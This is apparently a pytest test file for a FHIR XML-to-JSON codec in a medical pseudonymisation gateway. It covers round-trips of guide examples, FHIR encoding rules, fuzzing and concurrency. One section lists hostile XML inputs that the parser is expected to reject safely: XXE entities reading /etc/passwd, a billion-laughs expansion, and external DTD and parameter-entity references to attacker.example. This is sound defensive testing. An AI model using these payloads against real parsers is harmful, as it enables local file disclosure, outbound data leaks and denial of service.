"""FHIR XML <-> FHIR JSON codec (ttp_gateway.core.xmlcodec).

The guide's JSON examples and the XML bodies quoted on its pages are the reference; where
fhir.resources' own XML serialiser agrees with FHIR, it serves as an independent oracle.
"""

from __future__ import annotations

import json
import re
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ttp_gateway.core.errors import CodecError
from ttp_gateway.core.xmlcodec import parse_xml, to_xml

SPEC = Path(__file__).resolve().parent / "spec"  # the guide's published examples, copied here
IG_EXAMPLES = sorted((SPEC / "ig").glob("*/*.json"))

FHIR = 'xmlns="http://hl7.org/fhir"'
SECRET = "SECRET-4711"  # stands for patient data; must never appear in an error message


def load_example(name: str) -> dict:
    [path] = [p for p in IG_EXAMPLES if p.name == name][:1]  # the first, if two endpoints share a name
    return json.loads(path.read_text(encoding="utf-8"))


def fhir_xml(body: str) -> bytes:
    return body.encode("utf-8")


def codec_error(body: bytes | str) -> CodecError:
    """The CodecError parse_xml raises for `body`; fails if it parses or raises anything else."""
    with pytest.raises(CodecError) as caught:
        parse_xml(body if isinstance(body, bytes) else body.encode("utf-8"))
    return caught.value


# ---------------------------------------------------------------------------------------------
# The guide's examples
# ---------------------------------------------------------------------------------------------

@pytest.mark.parametrize("path", IG_EXAMPLES, ids=lambda p: f"{p.parent.name}/{p.stem}")
def test_guide_example_survives_to_xml_and_back(path: Path) -> None:
    resource = json.loads(path.read_text(encoding="utf-8"))
    xml = to_xml(resource)
    assert xml.startswith(b'<?xml version="1.0" encoding="UTF-8"?>')
    assert f'<{resource["resourceType"]} {FHIR}>'.encode() in xml
    assert parse_xml(xml) == resource


def test_guide_examples_cover_every_resource_type_we_exchange() -> None:
    types = {json.loads(p.read_text(encoding="utf-8"))["resourceType"] for p in IG_EXAMPLES}
    assert {"Parameters", "Bundle", "OperationOutcome", "Patient", "OperationDefinition",
            "CodeSystem", "StructureDefinition"} <= types


# fhir.resources' serialiser differs from FHIR on some examples: it normalises instants,
# writes empty strings as <description/> and ElementDefinition.id as an element.
ORACLE_EXAMPLES = [
    "Parameters-Parameters-UpdateBf-request-example-1.json",
    "Parameters-Parameters-ProvidePatientData-request-example-1.json",
    "Parameters-Parameters-RequestPsnWorkflow-response-example-1.json",
    "Parameters-Parameters-DeletePseudonyms-response-example-1.json",
    "Parameters-Parameters-Pseudonymize-response-example-2.json",
    "Patient-Idat-example-1.json",
    "Patient-PatientPseudonymized-example-1.json",
    "Bundle-PseudonymizePatient-Bundle-request-example-1.json",
    "Bundle-PseudonymizePatient-Bundle-response-example-1.json",
    "OperationOutcome-OperationOutcome-UpdateBf-response-example-1.json",
]


@pytest.mark.parametrize("name", ORACLE_EXAMPLES)
def test_parses_what_fhir_resources_serialises(name: str) -> None:
    from fhir.resources.R4B import get_fhir_model_class

    resource = load_example(name)
    model = get_fhir_model_class(resource["resourceType"]).model_validate(resource)
    assert parse_xml(model.model_dump_xml()) == resource


# ---------------------------------------------------------------------------------------------
# XML bodies quoted on the guide's pages
# ---------------------------------------------------------------------------------------------

QUOTED_BODY = re.compile(r'<(Parameters|OperationOutcome) xmlns="http://hl7\.org/fhir">.*?</\1>',
                         re.DOTALL)


def quoted_bodies(seed_prefix: str) -> list[bytes]:
    pages = sorted((SPEC / "seeds").glob(f"{seed_prefix}_*.txt"))
    if not pages:
        pytest.skip("guide pages not available")
    text = pages[0].read_text(encoding="utf-8")
    return [match.group(0).encode("utf-8") for match in QUOTED_BODY.finditer(text)]


def test_update_bf_page_bodies() -> None:
    request, response = quoted_bodies("001")

    assert parse_xml(request) == {
        "resourceType": "Parameters",
        "id": "Parameters-UpdateBf-request-example-1",
        "parameter": [
            {"name": "study", "valueString": "num"},
            {"name": "bloomfilter",
             "valueBase64Binary": "SWNoIGJpbiBlaW4gQmxvb21maWx0ZXIuIFZlcnNwcm9jaGVuLg=="},
            {"name": "source", "valueString": "dic_erlangen"},
            {"name": "pseudonym", "valueString": "dic_2Q42E"},
            {"name": "apikey", "valueString": "abcdef12345"},
            {"name": "bfVersion", "valueString": "2"},
        ],
    }
    assert parse_xml(response) == {
        "resourceType": "OperationOutcome",
        "id": "OperationOutcome-UpdateBf-response-example-1",
        "issue": [{
            "severity": "information",
            "code": "informational",
            "details": {"coding": [{
                "system": "http://terminology.hl7.org/CodeSystem/operation-outcome",
                "code": "MSG_UPDATED",
            }]},
            "diagnostics": "Bloomfilter updated.",
        }],
    }


def test_delete_pseudonyms_page_bodies() -> None:
    request, response = quoted_bodies("004")

    assert parse_xml(request) == {
        "resourceType": "Parameters",
        "id": "Parameters-DeletePseudonyms-request-example-1",
        "parameter": [
            {"name": "target", "valueString": "MIRACUM"},
            {"name": "original", "valueString": "1001000000022"},
            {"name": "original", "valueString": "1001000000033"},
        ],
    }
    parsed = parse_xml(response)
    first, second = parsed["parameter"]
    assert first == {"name": "successStatus", "part": [
        {"name": "target",
         "valueIdentifier": {"system": "https://ths-greifswald.de/gpas", "value": "MIRACUM"}},
        {"name": "original",
         "valueIdentifier": {"system": "https://ths-greifswald.de/gpas", "value": "1001000000022"}},
        {"name": "result-code",
         "valueCoding": {"system": "http://terminology.hl7.org/CodeSystem/operation-outcome",
                         "code": "MSG_DELETED"}},
    ]}
    assert second["part"][2]["valueCoding"] == {
        "system": "http://hl7.org/fhir/issue-type", "code": "not-found", "display": "Not Found"}


# The $updateBf page quotes a request with other values than the JSON example; the rest match.
@pytest.mark.parametrize("seed_prefix, index, example", [
    ("001", 1, "OperationOutcome-OperationOutcome-UpdateBf-response-example-1.json"),
    ("004", 0, "Parameters-Parameters-DeletePseudonyms-request-example-1.json"),
    ("004", 1, "Parameters-Parameters-DeletePseudonyms-response-example-1.json"),
])
def test_quoted_bodies_equal_the_guides_json_examples(seed_prefix: str, index: int,
                                                      example: str) -> None:
    assert parse_xml(quoted_bodies(seed_prefix)[index]) == load_example(example)


# ---------------------------------------------------------------------------------------------
# FHIR XML rules
# ---------------------------------------------------------------------------------------------

def test_array_elements_are_lists_even_when_they_occur_once() -> None:
    patient = parse_xml(fhir_xml(
        f'<Patient {FHIR}><name><family value="Mustermann"/><given value="Martin"/></name>'
        '</Patient>'))
    assert patient == {"resourceType": "Patient",
                       "name": [{"family": "Mustermann", "given": ["Martin"]}]}


def test_primitive_extension_on_prefix_round_trips() -> None:
    xml = fhir_xml(
        f'<Patient {FHIR}><name>'
        '<prefix value="Dr. med."><extension url="http://hl7.org/fhir/StructureDefinition/'
        'iso21090-EN-qualifier"><valueCode value="AC"/></extension></prefix>'
        '</name></Patient>')
    expected = {"resourceType": "Patient", "name": [{
        "prefix": ["Dr. med."],
        "_prefix": [{"extension": [{
            "url": "http://hl7.org/fhir/StructureDefinition/iso21090-EN-qualifier",
            "valueCode": "AC"}]}],
    }]}
    assert parse_xml(xml) == expected
    assert parse_xml(to_xml(expected)) == expected


def test_primitive_arrays_align_values_with_ids_and_extensions() -> None:
    xml = fhir_xml(
        f'<Patient {FHIR}><name>'
        '<given value="A"/>'
        '<given id="g2"><extension url="http://example.org/e"><valueBoolean value="false"/>'
        '</extension></given>'
        '<given value="C" id="g3"/>'
        '<given value="D"/>'
        '</name></Patient>')
    name = parse_xml(xml)["name"][0]
    assert name == {
        "given": ["A", None, "C", "D"],
        "_given": [None,
                   {"id": "g2",
                    "extension": [{"url": "http://example.org/e", "valueBoolean": False}]},
                   {"id": "g3"},
                   None],
    }
    assert parse_xml(to_xml({"resourceType": "Patient", "name": [name]}))["name"] == [name]


def test_single_primitive_with_id_and_extension() -> None:
    patient = {"resourceType": "Patient", "birthDate": "1965-12-03", "_birthDate": {
        "id": "b1",
        "extension": [{"url": "http://hl7.org/fhir/StructureDefinition/patient-birthTime",
                       "valueDateTime": "1965-12-03T14:30:00+01:00"}]}}
    xml = to_xml(patient)
    assert b'<birthDate id="b1" value="1965-12-03"><extension url=' in xml
    assert parse_xml(xml) == patient


def test_resource_id_is_an_element_but_element_id_and_extension_url_are_attributes() -> None:
    resource = {"resourceType": "Patient", "id": "p1",
                "extension": [{"id": "e1", "url": "http://example.org/x", "valueString": "v"}],
                "name": [{"id": "n1", "family": "F"}]}
    xml = to_xml(resource)
    assert b'<id value="p1"/>' in xml
    assert (b'<extension id="e1" url="http://example.org/x"><valueString value="v"/>'
            b'</extension>') in xml
    assert b'<name id="n1"><family value="F"/></name>' in xml
    assert parse_xml(xml) == resource


def test_booleans_integers_and_decimals_are_typed() -> None:
    xml = fhir_xml(
        f'<Parameters {FHIR}>'
        '<parameter><name value="b"/><valueBoolean value="true"/></parameter>'
        '<parameter><name value="i"/><valueInteger value="-42"/></parameter>'
        '<parameter><name value="u"/><valueUnsignedInt value="0"/></parameter>'
        '<parameter><name value="p"/><valuePositiveInt value="7"/></parameter>'
        '<parameter><name value="d"/><valueDecimal value="12"/></parameter>'
        '<parameter><name value="f"/><valueDecimal value="-0.25"/></parameter>'
        '<parameter><name value="e"/><valueDecimal value="1.5e3"/></parameter>'
        '<parameter><name value="s"/><valueString value="true"/></parameter>'
        '</Parameters>')
    values = [next(v for k, v in p.items() if k != "name") for p in parse_xml(xml)["parameter"]]
    assert values == [True, -42, 0, 7, 12, -0.25, 1500.0, "true"]
    assert [type(v) for v in values] == [bool, int, int, int, int, float, float, str]
    assert parse_xml(to_xml(parse_xml(xml))) == parse_xml(xml)


def test_nested_resources() -> None:
    bundle = {"resourceType": "Bundle", "type": "batch-response", "entry": [{
        "resource": {"resourceType": "Parameters", "parameter": [
            {"name": "patient", "resource": {
                "resourceType": "Patient", "id": "p1",
                "contained": [{"resourceType": "Organization", "id": "o1", "name": "Org"}],
                "managingOrganization": {"reference": "#o1"}}}]},
        "response": {"status": "200", "outcome": {
            "resourceType": "OperationOutcome",
            "issue": [{"severity": "information", "code": "informational"}]}},
    }]}
    xml = to_xml(bundle)
    assert b"<resource><Parameters><parameter><name value=\"patient\"/><resource><Patient>" in xml
    assert b"<contained><Organization>" in xml
    assert b"<outcome><OperationOutcome>" in xml
    assert parse_xml(xml) == bundle


def test_narrative_div_is_an_xhtml_string() -> None:
    div = '<div xmlns="http://www.w3.org/1999/xhtml"><p>Hallo <b>Welt</b> &amp; mehr</p></div>'
    xml = fhir_xml(
        f'<Patient {FHIR} xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        f'<text><status value="generated"/>{div}</text></Patient>')
    patient = parse_xml(xml)
    # the div keeps its own namespace only, not the xsi declaration of the document
    assert patient == {"resourceType": "Patient", "text": {"status": "generated", "div": div}}
    assert div.encode() in to_xml(patient)
    assert parse_xml(to_xml(patient)) == patient


def test_to_xml_writes_elements_in_definition_order() -> None:
    parameters = {"parameter": [{"part": [{"valueString": "x", "name": "inner"}], "name": "outer"}],
                  "resourceType": "Parameters", "id": "p"}
    assert to_xml(parameters) == (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<Parameters xmlns="http://hl7.org/fhir"><id value="p"/><parameter>'
        b'<name value="outer"/><part><name value="inner"/><valueString value="x"/></part>'
        b'</parameter></Parameters>')


def test_comments_processing_instructions_whitespace_and_schema_location_are_ignored() -> None:
    xml = fhir_xml(
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<!-- leading comment -->\n'
        f'<Parameters {FHIR} xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"\n'
        '    xsi:schemaLocation="http://hl7.org/fhir ../../schema/parameters.xsd">\n'
        '  <?some-instruction?>\n'
        '  <parameter>\n'
        '    <!-- the name -->\n'
        '    <name value="study"/>\n'
        '    <valueString value="num"/>\n'
        '  </parameter>\n'
        '</Parameters>\n')
    assert parse_xml(xml) == {"resourceType": "Parameters",
                              "parameter": [{"name": "study", "valueString": "num"}]}


def test_values_keep_whitespace_and_markup_characters() -> None:
    value = ' a <b> & "c" \'d\'\n\r\tend '
    parameters = {"resourceType": "Parameters",
                  "parameter": [{"name": value, "valueString": value}]}
    assert parse_xml(to_xml(parameters)) == parameters


def test_to_xml_rejects_what_has_no_place_in_fhir() -> None:
    with pytest.raises(ValueError):
        to_xml({"resourceType": "Parameters", "parameter": [{"name": "a", "valueFoo": "x"}]})
    with pytest.raises(ValueError):
        to_xml({"resourceType": "NoSuchResource"})
    with pytest.raises(ValueError):
        to_xml({"parameter": []})
    with pytest.raises(ValueError):
        to_xml({"resourceType": "Parameters", "parameter": [{"name": "a", "valueInteger": "1"}]})
    with pytest.raises(ValueError):  # XML 1.0 cannot carry most control characters
        to_xml({"resourceType": "Parameters", "parameter": [{"name": "a", "valueString": "\x01"}]})


# ---------------------------------------------------------------------------------------------
# Hostile and broken documents
# ---------------------------------------------------------------------------------------------

PATIENT_WITH_SECRET = f'<Patient {FHIR}><name><family value="{SECRET}"/></name></Patient>'

BAD_DOCUMENTS = {
    "xxe": (
        '<?xml version="1.0"?><!DOCTYPE Patient [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        f'<Patient {FHIR}><name><family value="{SECRET}"/><given value="&e;"/></name></Patient>'),
    "xxe in text": (
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        f'<Patient {FHIR}><id value="{SECRET}"/>&e;</Patient>'),
    "billion laughs": (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">'
                  for i in range(1, 10))
        + f']><Patient {FHIR}><id value="{SECRET}"/><name><family value="&lol9;"/></name>'
        '</Patient>'),
    "external dtd": (
        '<!DOCTYPE Patient SYSTEM "http://attacker.example/evil.dtd">' + PATIENT_WITH_SECRET),
    "parameter entity": (
        '<!DOCTYPE Patient [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>'
        + PATIENT_WITH_SECRET),
    "wrong namespace": (
        f'<Patient xmlns="http://example.org/not-fhir"><id value="{SECRET}"/></Patient>'),
    "no namespace": f'<Patient><id value="{SECRET}"/></Patient>',
    "malformed": f'<Patient {FHIR}><id value="{SECRET}"></Patient>',
    "unclosed attribute": f'<Patient {FHIR}><id value="{SECRET}/></Patient>',
    "undefined entity": f'<Patient {FHIR}><id value="{SECRET}&nope;"/></Patient>',
    "two roots": f'<Patient {FHIR}/><Patient {FHIR}><id value="{SECRET}"/></Patient>',
    "unknown element": f'<Patient {FHIR}><name><nickname value="{SECRET}"/></name></Patient>',
    "unknown attribute": (
        f'<Patient {FHIR}><name><family value="x" secret="{SECRET}"/></name></Patient>'),
    "text instead of value": f'<Patient {FHIR}><name><family>{SECRET}</family></name></Patient>',
    "stray text": f'<Patient {FHIR}>{SECRET}<id value="x"/></Patient>',
    "bad boolean": f'<Patient {FHIR}><active value="{SECRET}"/></Patient>',
    "bad integer": (
        f'<Parameters {FHIR}><parameter><name value="n"/><valueInteger value="{SECRET}"/>'
        '</parameter></Parameters>'),
    "bad decimal": (
        f'<Parameters {FHIR}><parameter><name value="{SECRET}"/><valueDecimal value="1,5"/>'
        '</parameter></Parameters>'),
    "repeated single element": (
        f'<Patient {FHIR}><gender value="{SECRET}"/><gender value="male"/></Patient>'),
    "unknown resource type": f'<Secret {FHIR}><id value="{SECRET}"/></Secret>',
    "datatype as resource": (
        f'<Bundle {FHIR}><entry><resource><HumanName><family value="{SECRET}"/></HumanName>'
        '</resource></entry></Bundle>'),
    "two resources in one": (
        f'<Bundle {FHIR}><entry><resource><Patient><id value="{SECRET}"/></Patient>'
        '<Patient/></resource></entry></Bundle>'),
    "element without content": f'<Patient {FHIR}><id value="{SECRET}"/><name/></Patient>',
    "resource id as attribute": f'<Patient {FHIR} id="{SECRET}"/>',
    "absurdly deep": (
        f'<Patient {FHIR}>' + '<extension url="u">' * 150 + f'<valueString value="{SECRET}"/>'
        + "</extension>" * 150 + "</Patient>"),
    "deeper than libxml2 allows": (
        f'<Patient {FHIR}>' + '<extension url="u">' * 300 + f'<valueString value="{SECRET}"/>'
        + "</extension>" * 300 + "</Patient>"),
    "not utf-8": (
        '<?xml version="1.0" encoding="ISO-8859-1"?>'
        f'<Patient {FHIR}><id value="\xe4{SECRET}"/></Patient>'),
}


@pytest.mark.parametrize("body", BAD_DOCUMENTS.values(), ids=BAD_DOCUMENTS.keys())
def test_bad_documents_raise_codec_error_without_their_values(body: str) -> None:
    encoding = "latin-1" if "ISO-8859-1" in body else "utf-8"
    error = codec_error(body.encode(encoding))
    assert SECRET not in str(error) and SECRET not in error.diagnostics
    assert "root:" not in str(error)  # nothing read from /etc/passwd


def test_doctype_in_another_encoding_is_refused_too() -> None:
    """FHIR XML is UTF-8: a UTF-16 document could hide its DOCTYPE from the byte search."""
    body = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e "e">]>'
            + PATIENT_WITH_SECRET).encode("utf-16")
    assert b"<!DOCTYPE" not in body
    assert SECRET not in str(codec_error(body))


@pytest.mark.parametrize("body", [b"", b"   \n\t", "<Patient/>"], ids=["empty", "blank", "str"])
def test_empty_or_non_bytes_bodies_raise_codec_error(body: Any) -> None:
    with pytest.raises(CodecError):
        parse_xml(body)


def test_error_messages_name_the_element_path_and_parent_type() -> None:
    error = codec_error(
        f'<Parameters {FHIR}><parameter><name value="a"/></parameter><parameter>'
        f'<name value="b"/><part><name value="c"/><valueSecret value="{SECRET}"/></part>'
        '</parameter></Parameters>')
    assert "valueSecret" in str(error)
    assert "ParametersParameter" in str(error)
    assert "Parameters.parameter[1].part.valueSecret" in str(error)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=300))
def test_arbitrary_bytes_give_a_dict_or_codec_error(body: bytes) -> None:
    try:
        assert isinstance(parse_xml(body), dict)
    except CodecError:
        pass


VALID_PATIENT = fhir_xml(
    f'<Patient {FHIR}><id value="p1"/><active value="true"/><name><family value="F"/>'
    '<given value="G"/></name><birthDate value="1965-12-03"/></Patient>')


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_mutated_documents_give_a_dict_or_codec_error(data: st.DataObject) -> None:
    body = bytearray(VALID_PATIENT)
    for _ in range(data.draw(st.integers(1, 4))):
        position = data.draw(st.integers(0, len(body) - 1))
        body[position] = data.draw(st.sampled_from(b'<>/="&;! ?abxX\x00\xff'))
    try:
        assert isinstance(parse_xml(bytes(body)), dict)
    except CodecError:
        pass


# ---------------------------------------------------------------------------------------------
# Properties
# ---------------------------------------------------------------------------------------------

def is_xml_char(char: str) -> bool:
    """XML 1.0 Char: tab, newline, carriage return and everything from space up, bar
    surrogates and U+FFFE/U+FFFF."""
    return char in "\t\n\r" or (" " <= char and char not in "\ufffe\uffff")


xml_text = st.text(st.characters(exclude_categories=("Cs",)).filter(is_xml_char), max_size=30)
int32 = st.integers(-(2**31), 2**31 - 1)


def parameter(parts: st.SearchStrategy[list]) -> st.SearchStrategy[dict]:
    value = st.one_of(
        st.builds(lambda v: {"valueString": v}, xml_text),
        st.builds(lambda v: {"valueInteger": v}, int32),
        st.builds(lambda v: {"valueBoolean": v}, st.booleans()),
        st.builds(lambda v: {"valueDecimal": v}, st.floats(allow_nan=False, allow_infinity=False)),
        st.builds(lambda v: {"part": v}, parts),
    )
    return st.builds(lambda name, v: {"name": name, **v}, xml_text, value)


parameters_lists = st.recursive(
    st.lists(parameter(st.nothing()), min_size=1, max_size=4),
    lambda children: st.lists(parameter(children), min_size=1, max_size=4),
    max_leaves=20,
)


@settings(max_examples=200, deadline=None)
@given(parameters_lists)
def test_random_parameters_survive_to_xml_and_back(params: list[dict]) -> None:
    resource = {"resourceType": "Parameters", "parameter": params}
    assert parse_xml(to_xml(resource)) == resource


# ---------------------------------------------------------------------------------------------
# Size and threads
# ---------------------------------------------------------------------------------------------

def large_parameters(count: int) -> dict:
    return {"resourceType": "Parameters", "parameter": [
        {"name": "original", "valueString": f"1001000{index:06d}"} for index in range(count)]}


def test_ten_thousand_parameters_round_trip() -> None:
    resource = large_parameters(10_000)
    assert parse_xml(to_xml(resource)) == resource


def test_parses_concurrently_from_many_threads() -> None:
    documents = [to_xml(large_parameters(count)) for count in range(1, 41)]
    with ThreadPoolExecutor(max_workers=8) as pool:
        results = list(pool.map(parse_xml, documents))
    assert [len(result["parameter"]) for result in results] == list(range(1, 41))
